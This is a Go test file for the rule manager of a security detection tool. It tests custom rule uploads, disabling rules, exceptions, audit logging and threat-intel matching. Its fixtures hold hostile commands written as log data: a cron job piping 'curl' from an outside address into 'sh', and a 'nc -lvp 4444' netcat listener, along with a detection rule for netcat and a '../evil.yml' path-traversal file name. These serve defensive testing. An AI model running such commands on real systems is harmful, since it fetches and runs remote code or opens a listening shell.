package ruleset

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/audit"
	"github.com/vigilsec/vigil/internal/detect"
	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/intel"
	"github.com/vigilsec/vigil/internal/parse"
	"github.com/vigilsec/vigil/internal/store"
	"github.com/vigilsec/vigil/internal/store/sqlite"
)

const customRule = `title: Netcat Listener
id: 7a1e3b9c-2d4f-4c6a-8b1e-0f9d8c7b6a50
level: high
tags: [cs.ex-01]
logsource: {product: linux, category: process_creation}
detection:
  selection:
    CommandLine|contains: 'nc -lvp'
  condition: selection
`

const brokenRule = `title: Broken
id: 3f7a1c2e-9b8d-4e6f-a5c4-1b2d3e4f5a6b
logsource: {product: linux}
detection:
  selection:
    CommandLine|nosuchmodifier: x
  condition: selection
`

// ruleCron is a built-in rule that alerts on one cron job piping a download into a
// shell.
const ruleCron = "3882e565-54ce-4a30-89de-517210bd99c8"

// cronEvent parses a cron line that the built-in rule alerts on; pid makes it unique.
func cronEvent(t *testing.T, pid int) *event.Event {
	t.Helper()
	p, err := parse.New(parse.Options{Now: func() time.Time { return time.Date(2026, 11, 28, 12, 0, 0, 0, time.UTC) }})
	if err != nil {
		t.Fatal(err)
	}
	var out []*event.Event
	line := fmt.Sprintf("Nov 28 10:02:00 web-1 CRON[%d]: (root) CMD (curl -fsSL http://203.0.113.9/m.sh | sh)\n", pid)
	if err := parse.Read(strings.NewReader(line), p, func(ev *event.Event) { out = append(out, ev) }); err != nil || len(out) != 1 {
		t.Fatalf("parse: %v, %d events", err, len(out))
	}
	return out[0]
}

func ncEvent(id string) *event.Event {
	ev := &event.Event{ID: id, Type: "auditd", Time: time.Date(2026, 11, 28, 10, 0, 0, 0, time.UTC)}
	ev.Set("event.category", []string{"process"})
	ev.Set("event.type", []string{"start"})
	ev.Set("CommandLine", "nc -lvp 4444")
	ev.Set("Image", "/usr/bin/nc")
	ev.Set("host.name", "web-1")
	return ev
}

func sshFailed(id string) *event.Event {
	ev := &event.Event{ID: id, Type: "sshd", Time: time.Date(2026, 11, 28, 10, 0, 0, 0, time.UTC)}
	ev.Set("event.category", []string{"authentication"})
	ev.Set("event.outcome", "failure")
	ev.Set("event.action", "ssh_login")
	ev.Set("source.ip", "203.0.113.77")
	ev.Set("user.name", "root")
	ev.Set("host.name", "web-1")
	return ev
}

func rulesOf(as []detect.Alert) map[string]bool {
	out := map[string]bool{}
	for _, a := range as {
		out[a.Rule.ID] = true
	}
	return out
}

func newManager(t *testing.T, opts Options) (*Manager, store.Store) {
	t.Helper()
	db, err := sqlite.Open(context.Background(), t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	set, _, _ := New(opts)
	return NewManager(set, db, time.Now), db
}

func TestUploadDisableAndReload(t *testing.T) {
	m, db := newManager(t, Options{})
	ctx := context.Background()
	if _, err := m.PutCustom(ctx, "user:1:alice", "../evil.yml", []byte(customRule)); err == nil {
		t.Error("a path was accepted as a file name")
	}
	_, err := m.PutCustom(ctx, "user:1:alice", "broken.yml", []byte(brokenRule))
	var rej *RejectedError
	if !errors.As(err, &rej) || len(rej.Reasons) == 0 || !strings.Contains(rej.Reasons[0], "broken.yml:") {
		t.Fatalf("broken upload = %v; want a rejection naming broken.yml:line", err)
	}
	n, err := m.PutCustom(ctx, "user:1:alice", "nc.yml", []byte(customRule))
	if err != nil || n != 1 {
		t.Fatalf("upload = %d, %v", n, err)
	}
	if !rulesOf(m.Set().Eval(ncEvent("e1"), time.Now()))["7a1e3b9c-2d4f-4c6a-8b1e-0f9d8c7b6a50"] {
		t.Fatal("the uploaded rule did not alert")
	}
	// A refused upload changes nothing: the good file still applies.
	if _, err := m.PutCustom(ctx, "user:1:alice", "broken.yml", []byte(brokenRule)); err == nil {
		t.Fatal("broken upload accepted next to a good one")
	}
	if !rulesOf(m.Set().Eval(ncEvent("e2"), time.Now()))["7a1e3b9c-2d4f-4c6a-8b1e-0f9d8c7b6a50"] {
		t.Error("a refused upload removed the good rule")
	}
	// Disabling a built-in rule silences it; the choice is kept.
	if !rulesOf(m.Set().Eval(cronEvent(t, 1), time.Now()))[ruleCron] {
		t.Fatalf("the built-in rule %s does not alert on its cron line", ruleCron)
	}
	if err := m.SetEnabled(ctx, "user:1:alice", ruleCron, false); err != nil {
		t.Fatal(err)
	}
	if err := m.SetEnabled(ctx, "user:1:alice", "no-such-rule", false); !errors.Is(err, store.ErrNotFound) {
		t.Errorf("disabling an unknown rule = %v", err)
	}
	if rulesOf(m.Set().Eval(cronEvent(t, 2), time.Now()))[ruleCron] {
		t.Error("a disabled rule alerted")
	}
	rs, sum := m.Set().Rules()
	found := false
	for _, r := range rs {
		if r.ID == ruleCron {
			found = !r.Enabled && r.Muted == 1 && r.Origin == OriginBuiltin
		}
	}
	if !found || sum.Events == 0 {
		t.Errorf("rules list does not show the disabled rule with one muted alert (summary %+v)", sum)
	}

	// A restart applies the stored choices.
	m2 := NewManager(mustSet(t), db, time.Now)
	if err := m2.Load(ctx); err != nil {
		t.Fatal(err)
	}
	got := rulesOf(m2.Set().Eval(ncEvent("e3"), time.Now()))
	if !got["7a1e3b9c-2d4f-4c6a-8b1e-0f9d8c7b6a50"] {
		t.Error("after a restart the uploaded rule is gone")
	}
	if rulesOf(m2.Set().Eval(cronEvent(t, 3), time.Now()))[ruleCron] {
		t.Error("after a restart the disabled rule alerts")
	}
	if err := m2.DeleteCustom(ctx, "user:1:alice", "nc.yml"); err != nil {
		t.Fatal(err)
	}
	if rulesOf(m2.Set().Eval(ncEvent("e4"), time.Now()))["7a1e3b9c-2d4f-4c6a-8b1e-0f9d8c7b6a50"] {
		t.Error("a deleted rule file still alerts")
	}
	// Every change is audited.
	err = db.View(ctx, func(tx store.Tx) error {
		es, err := tx.ListAudit(store.Page{Limit: 100})
		n := 0
		for _, e := range es {
			if strings.HasPrefix(e.Action, "rule.") {
				n++
			}
		}
		if n != 3 {
			t.Errorf("rule audit entries = %d, want 3 (upload, disable, delete)", n)
		}
		res, _ := audit.Verify(tx)
		if !res.OK {
			t.Errorf("audit chain broken: %+v", res)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

func mustSet(t *testing.T) *Set {
	s, _, _ := New(Options{})
	return s
}

func TestExceptionsAcrossEngines(t *testing.T) {
	m, _ := newManager(t, Options{})
	ctx := context.Background()
	if _, err := m.PutCustom(ctx, "test", "nc.yml", []byte(customRule)); err != nil {
		t.Fatal(err)
	}
	filter := func(id, rule string) detect.Exception {
		doc, err := detect.ExceptionFilter(detect.ExceptionDoc{Rule: rule, Reason: "test", Fields: map[string]string{"host.name": "web-1"}})
		if err != nil {
			t.Fatal(err)
		}
		r, err := detect.ParseException("x.yml", doc)
		if err != nil {
			t.Fatal(err)
		}
		return detect.Exception{ID: id, Filter: r}
	}
	errs := m.Set().SetExceptions([]detect.Exception{
		filter("1", "7a1e3b9c-2d4f-4c6a-8b1e-0f9d8c7b6a50"), // uploaded
		filter("2", ruleCron),                               // built-in
		filter("3", "no-such-rule"),
	})
	if len(errs) != 1 || !strings.Contains(errs[0].Error(), `"3"`) {
		t.Fatalf("errors = %v; want only exception 3's", errs)
	}
	got := rulesOf(m.Set().Eval(ncEvent("e1"), time.Now()))
	got2 := rulesOf(m.Set().Eval(cronEvent(t, 4), time.Now()))
	if got["7a1e3b9c-2d4f-4c6a-8b1e-0f9d8c7b6a50"] || got2[ruleCron] {
		t.Error("an exception did not apply in its engine")
	}
	st := m.Set().ExceptionStats()
	if st["1"] != 1 || st["2"] != 1 {
		t.Errorf("exception stats = %v", st)
	}
	// Replacing the uploaded rules keeps the exceptions on them.
	if _, err := m.PutCustom(ctx, "test", "nc.yml", []byte(customRule)); err != nil {
		t.Fatal(err)
	}
	if rulesOf(m.Set().Eval(ncEvent("e2"), time.Now()))["7a1e3b9c-2d4f-4c6a-8b1e-0f9d8c7b6a50"] {
		t.Error("the exception was lost when the uploaded rules were replaced")
	}
}

func TestIntelAndPlaceholders(t *testing.T) {
	l, err := intel.Load("feed.csv", strings.NewReader("type,value,severity\nipv4,203.0.113.77,critical\n"))
	if err != nil {
		t.Fatal(err)
	}
	set, _, rejected := New(Options{Intel: []*intel.List{l}, Placeholders: map[string][]string{
		"aws_used_regions": {"us-east-1"}, "tencentcloud_used_regions": {"ap-guangzhou"}, "alibabacloud_used_regions": {"cn-hangzhou"}}})
	for _, err := range rejected {
		if strings.Contains(err.Error(), "placeholder") {
			t.Errorf("with the placeholders given, a rule is still rejected: %v", err)
		}
	}
	if !rulesOf(set.Eval(sshFailed("s1"), time.Now()))["intel:feed.csv"] {
		t.Error("no intel alert for a listed address")
	}
	_, sum := set.Rules()
	if sum.IntelIndicators != 1 {
		t.Errorf("summary = %+v", sum)
	}
}
